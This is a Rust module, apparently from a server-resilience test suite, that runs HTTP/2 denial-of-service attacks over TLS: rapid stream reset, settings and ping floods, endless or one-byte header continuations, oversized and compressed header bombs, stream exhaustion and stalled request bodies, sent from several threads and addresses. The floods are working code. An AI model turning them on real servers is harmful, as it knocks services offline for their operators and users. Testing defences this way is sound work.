//! Attacks with HTTP/2, over TLS. Their clients never read what the server sends.

use std::io::{self, Write};
use std::thread::sleep;
use std::time::{Duration, Instant};

use anyhow::{Result, ensure};

use super::super::crowd::until;
use super::super::frames;
use super::super::server::Server;
use super::super::socket::{self, Client};
use super::super::target::Secure;

/// How many attackers send at once, and from how many addresses.
const ATTACKERS: u8 = 8;
const ADDRESSES: u8 = 4;
/// The most connections of an attack that holds them.
const MOST_HELD: usize = 400;
/// How long an attacker tries to send while the server takes nothing.
const PATIENCE: Duration = Duration::from_secs(1);

/// Attackers open streams and reset each at once, as fast as they can.
pub(super) fn rapid_reset(server: &Server, duration: Duration) -> Result<String> {
    let flood = Flood::run(server, duration, |round| {
        let streams = (0..100).map(|index| frames::stream(100 * round + index));
        streams
            .flat_map(|stream| [frames::get(stream), frames::reset(stream)].concat())
            .collect()
    });
    flood.closed_some()
}

/// Attackers ask again and again for settings to be confirmed.
pub(super) fn settings(server: &Server, duration: Duration) -> Result<String> {
    let many = frames::settings().repeat(1_000);
    Ok(Flood::run(server, duration, |_| many.clone()).words())
}

/// Attackers ask again and again whether the server is there.
pub(super) fn pings(server: &Server, duration: Duration) -> Result<String> {
    let many = frames::ping().repeat(1_000);
    Ok(Flood::run(server, duration, |_| many.clone()).words())
}

/// Attackers send heads that never end.
pub(super) fn endless_heads(server: &Server, duration: Duration) -> Result<String> {
    let more = frames::more_head(1, &frames::header(frames::LONGEST - 64), false);
    let flood = Flood::run(server, duration, |round| match round {
        0 => [frames::endless_head(1), more.clone()].concat(),
        _ => more.clone(),
    });
    flood.closed_some()
}

/// Attackers send heads that never end, in parts of one byte.
pub(super) fn tiny_parts(server: &Server, duration: Duration) -> Result<String> {
    let more = frames::more_head(1, b"", false).repeat(1_000);
    let flood = Flood::run(server, duration, |round| match round {
        0 => frames::endless_head(1),
        _ => more.clone(),
    });
    flood.closed_some()
}

/// Attackers send heads of a megabyte.
pub(super) fn large_heads(server: &Server, duration: Duration) -> Result<String> {
    let part = frames::header(frames::LONGEST - 64);
    let flood = Flood::run(server, duration, |round| {
        let stream = frames::stream(round);
        let parts = (1..=64).map(|number| frames::more_head(stream, &part, number == 64));
        std::iter::once(frames::endless_head(stream))
            .chain(parts)
            .flatten()
            .collect()
    });
    Ok(flood.words())
}

/// Attackers send small heads that are large when they are unpacked.
pub(super) fn packed_heads(server: &Server, duration: Duration) -> Result<String> {
    let flood = Flood::run(server, duration, |round| {
        frames::packed_head(frames::stream(round))
    });
    Ok(flood.words())
}

/// Attackers open twice as many streams as they may on each of many connections, and end none.
pub(super) fn many_streams(server: &Server, duration: Duration) -> Result<String> {
    let long = "x".repeat(8_000);
    hold(server, duration, |stream| {
        frames::post(stream, "/v2/conversations", &[("x-attack", long.as_str())])
    })
}

/// Attackers announce bodies of 7 MB on many streams, send as much of each as they may, and stop.
pub(super) fn stopped_bodies(server: &Server, duration: Duration) -> Result<String> {
    let path = "/api/connector/v1/messageThreads/getAll";
    let headers = [
        ("content-type", "application/json"),
        ("content-length", "7000000"),
    ];
    // Less than the window of a stream, which is 64 KiB or more.
    let part = vec![b' '; 15 * 1024];
    hold(server, duration, |stream| {
        let parts = (0..4).map(|_| frames::data(stream, &part));
        std::iter::once(frames::post(stream, path, &headers))
            .chain(parts)
            .flatten()
            .collect()
    })
}

/// Opens connections with 200 streams each until the time is over, and holds them.
fn hold(server: &Server, duration: Duration, open: impl Fn(u32) -> Vec<u8>) -> Result<String> {
    let end = Instant::now() + duration;
    let streams: Vec<Vec<u8>> = (0..200).map(|index| open(frames::stream(index))).collect();
    let mut held = Vec::new();
    while held.len() < MOST_HELD && Instant::now() < end {
        let client = Client(1 + u8::try_from(held.len() % usize::from(ADDRESSES))?);
        let Ok(mut connection) = begin(server, client) else {
            continue;
        };
        // The server may close the connection meanwhile; it counts nevertheless.
        let _ = streams
            .iter()
            .try_for_each(|stream| send(&mut connection, stream));
        held.push(connection);
    }
    until(end, || sleep(Duration::from_millis(50)));
    ensure!(!held.is_empty(), "no attacker got a connection");
    let closed = held.iter().filter(|it| socket::is_closed(&it.sock)).count();
    Ok(format!("{closed} of {} closed", held.len()))
}

/// Connects, and sends what every client of HTTP/2 sends first.
fn begin(server: &Server, client: Client) -> io::Result<Secure> {
    let mut connection = server.target.connect_http2(client)?;
    connection.sock.set_write_timeout(Some(PATIENCE))?;
    send(&mut connection, frames::BEGIN)?;
    Ok(connection)
}

fn send(connection: &mut Secure, bytes: &[u8]) -> io::Result<()> {
    connection.write_all(bytes)?;
    connection.flush()
}

/// What became of attackers that send without pause.
#[derive(Debug, Default)]
struct Flood {
    /// The connections that the server has closed.
    closed: usize,
    /// The connections of which the server took nothing for a while.
    stalled: usize,
    /// The megabytes that it took.
    megabytes: usize,
}

impl Flood {
    /// Lets attackers send what `bytes` returns for each round, from 0. A connection that the server has closed is made again.
    fn run(server: &Server, duration: Duration, bytes: impl Fn(u32) -> Vec<u8> + Sync) -> Self {
        let end = Instant::now() + duration;
        let bytes = &bytes;
        let floods = std::thread::scope(|scope| {
            let attackers: Vec<_> = (0..ATTACKERS)
                .map(|number| {
                    let client = Client(1 + number % ADDRESSES);
                    scope.spawn(move || Self::attack(server, client, end, bytes))
                })
                .collect();
            let attackers = attackers.into_iter();
            attackers
                .map(|attacker| attacker.join().expect("an attacker does not panic"))
                .collect::<Vec<_>>()
        });
        floods.into_iter().fold(Self::default(), |sum, it| Self {
            closed: sum.closed + it.closed,
            stalled: sum.stalled + it.stalled,
            megabytes: sum.megabytes + it.megabytes,
        })
    }

    fn attack(
        server: &Server,
        client: Client,
        end: Instant,
        bytes: &impl Fn(u32) -> Vec<u8>,
    ) -> Self {
        let (mut flood, mut sent) = (Self::default(), 0);
        until(end, || {
            let Ok(mut connection) = begin(server, client) else {
                return;
            };
            let mut round = 0;
            while Instant::now() < end {
                let bytes = bytes(round);
                match send(&mut connection, &bytes) {
                    Ok(()) => sent += bytes.len(),
                    Err(error) if error.kind() == io::ErrorKind::WouldBlock => {
                        flood.stalled += 1;
                        return;
                    }
                    Err(_) => {
                        flood.closed += 1;
                        return;
                    }
                }
                round += 1;
            }
        });
        flood.megabytes = sent >> 20;
        flood
    }

    fn words(&self) -> String {
        format!(
            "{} closed, {} stalled, {} MiB taken",
            self.closed, self.stalled, self.megabytes
        )
    }

    /// Says the same.
    ///
    /// # Errors
    /// Fails if the server has closed no connection.
    fn closed_some(&self) -> Result<String> {
        ensure!(self.closed > 0, "no attacker was stopped: {}", self.words());
        Ok(self.words())
    }
}
